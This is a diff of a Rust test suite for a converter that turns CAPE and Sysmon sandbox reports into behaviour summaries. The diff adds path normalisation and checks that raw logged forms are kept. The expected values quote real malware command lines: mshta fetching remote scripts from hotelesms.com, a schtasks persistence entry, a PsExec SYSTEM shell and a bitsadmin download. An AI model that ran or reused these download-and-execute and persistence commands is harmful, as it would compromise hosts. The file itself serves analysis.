@@ -37,11 +37,22 @@ fn case_a_mshta_cradle_with_scheduled_task() {
     );
     assert_eq!(
         find(&a.processes_tree, "2432").name,
-        r#""C:\Windows\System32\mshta.exe" https://hotelesms.com/talsk.txt"#
+        r#""%WINDIR%\System32\mshta.exe" https://hotelesms.com/talsk.txt"#
     );
-    let schtasks = r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#;
+    // The image of a command line is normalised, the logged line kept behind it.
+    assert_eq!(
+        a.raw_forms[r#""%WINDIR%\System32\mshta.exe" https://hotelesms.com/talsk.txt"#],
+        vec![r#""C:\Windows\System32\mshta.exe" https://hotelesms.com/talsk.txt"#]
+    );
+    let schtasks = r#""%WINDIR%\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#;
     assert_eq!(find(&a.processes_tree, "3772").name, schtasks);
     assert!(a.command_executions.contains(&schtasks.to_string()));
+    assert_eq!(
+        a.raw_forms[schtasks],
+        vec![
+            r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#
+        ]
+    );
     assert_eq!(
         a.scheduled_tasks_created,
         vec![ScheduledTask {
@@ -90,10 +101,11 @@ fn case_b_appdata_drops_and_xml_task_two_trees() {
         "{all:?}"
     );
     assert_eq!(find(&a.processes_tree, "1216").name, "?");
-    // The command line, as its child logged it (trailing space included).
+    // The command line as its child logged it, image normalised, trailing space kept.
+    assert_eq!(find(&a.processes_tree, "7624").name, r"%PUBLIC%\test.tmp ");
     assert_eq!(
-        find(&a.processes_tree, "7624").name,
-        r"c:\Users\Public\test.tmp "
+        a.raw_forms[r"%PUBLIC%\test.tmp "],
+        vec![r"c:\Users\Public\test.tmp "]
     );
     assert_eq!(
         find(&a.processes_tree, "7552").name,
@@ -175,7 +187,7 @@ fn case_c_psexec_service_pipes_dns() {
     );
     // The service binary, adopted because the sample wrote it, starts the SYSTEM shell.
     let service = find(&a.processes_tree, "4752");
-    assert_eq!(service.name, r"C:\Windows\PSEXESVC.exe");
+    assert_eq!(service.name, r"%WINDIR%\PSEXESVC.exe");
     assert_eq!(service.children.len(), 1);
     assert_eq!(service.children[0].process_id, "540");
     assert_eq!(service.children[0].name, r#""cmd" "#);
@@ -253,7 +265,7 @@ fn case_d_fake_flash_update() {
             .contains(&r"%APPDATA%\NvSmartMax.dll".to_string())
     );
     assert!(a.command_executions.contains(
-        &r#""C:\Windows\System32\cmd.exe" /c del /q "C:\Users\IEUser\Downloads\Flash_update.exe" "#.to_string()
+        &r#""%WINDIR%\System32\cmd.exe" /c del /q "C:\Users\IEUser\Downloads\Flash_update.exe" "#.to_string()
     ));
     assert_eq!(
         a.processes_terminated,
@@ -284,7 +296,7 @@ fn case_e_apt10_service_and_hollowing() {
     );
     assert_eq!(
         find(&a.processes_tree, "3908").name,
-        r"C:\Windows\system32\svchost.exe"
+        r"%WINDIR%\system32\svchost.exe"
     );
     assert_eq!(
         a.processes_injected,
@@ -307,11 +319,17 @@ fn case_f_cape_bits_run_without_the_sandbox() {
     assert_eq!(
         a.command_executions,
         strings(&[
-            r#""C:\WINDOWS\system32\cmd.exe" /c start /wait "" "C:\Users\buddy\AppData\Local\Temp\bits.bat""#,
-            r#"C:\WINDOWS\system32\cmd.exe  /K "C:\Users\buddy\AppData\Local\Temp\bits.bat""#,
+            r#""%WINDIR%\system32\cmd.exe" /c start /wait "" "C:\Users\buddy\AppData\Local\Temp\bits.bat""#,
+            r#"%WINDIR%\system32\cmd.exe  /K "C:\Users\buddy\AppData\Local\Temp\bits.bat""#,
             bitsadmin,
         ])
     );
+    assert_eq!(
+        a.raw_forms[&a.command_executions[1]],
+        vec![r#"C:\WINDOWS\system32\cmd.exe  /K "C:\Users\buddy\AppData\Local\Temp\bits.bat""#]
+    );
+    // Nothing to normalise in bitsadmin's line: no raw form behind it.
+    assert!(!a.raw_forms.contains_key(bitsadmin));
     // BITS writes the job's staging file on bitsadmin's behalf.
     assert_eq!(a.files_written, strings(&[r"%USERPROFILE%\BIT3E53.tmp"]));
     assert_eq!(
@@ -411,5 +429,58 @@ fn driver_service_with_nt_path() {
     assert_eq!(
         a.raw_forms[r"HKLM\SYSTEM\CurrentControlSet\Services\mimidrv\ImagePath"],
         vec![r"HKLM\System\CurrentControlSet\Services\mimidrv\ImagePath"]
+    );
+}
+
+/// CAPE's lite reports embed a trimmed Sysmon log in which the sample's own creation is
+/// missing. The sample is still listed as VirusTotal and CAPE list it: its image in
+/// `processes_created` and, when a child logged it as `ParentCommandLine`, its command line.
+#[test]
+fn sample_whose_creation_the_log_lacks() {
+    const LITE: &str = "CybercentreCanada_assemblyline-service-cape/tests/samples";
+    // etw-dns-app (pid 2500): only its console host's creation (record 364) names it, with
+    // ParentCommandLine `"C:\Users\buddy\AppData\Local\Temp\etw-dns-app.exe"`.
+    let built = report(
+        &format!(
+            "{LITE}/9393a56f957a93bc2af2aafc73421aaa1c372c7d9decf92a2734d1b4a8253fb2/Report/reports/lite.json"
+        ),
+        SampleSelector::Auto,
+    );
+    let a = &built.behaviour.attributes;
+    assert_eq!(
+        a.processes_created,
+        strings(&[r"%SAMPLEPATH%\etw-dns-app.exe"])
+    );
+    assert_eq!(
+        a.command_executions,
+        strings(&[r#""%SAMPLEPATH%\etw-dns-app.exe""#])
+    );
+    assert_eq!(
+        a.raw_forms[r#""%SAMPLEPATH%\etw-dns-app.exe""#],
+        vec![r#""C:\Users\buddy\AppData\Local\Temp\etw-dns-app.exe""#]
+    );
+    assert_eq!(
+        find(&a.processes_tree, "2500").name,
+        a.command_executions[0]
+    );
+    // The console host itself is noise: neither listed nor in the tree.
+    assert!(!json(&built.behaviour).contains("conhost"));
+
+    // apihooks (pid 4228): no event carries its command line, so only its image is listed.
+    let built = report(
+        &format!(
+            "{LITE}/491f359c0cf2588e4aa76a527317406927b0900cfc5c24a4736c92d372073b1e/Report/reports/lite.json"
+        ),
+        SampleSelector::Auto,
+    );
+    let a = &built.behaviour.attributes;
+    assert_eq!(
+        a.processes_created,
+        strings(&[r"%SAMPLEPATH%\apihooks.exe"])
+    );
+    assert!(a.command_executions.is_empty());
+    assert_eq!(
+        find(&a.processes_tree, "4228").name,
+        r"%SAMPLEPATH%\apihooks.exe"
     );
 }
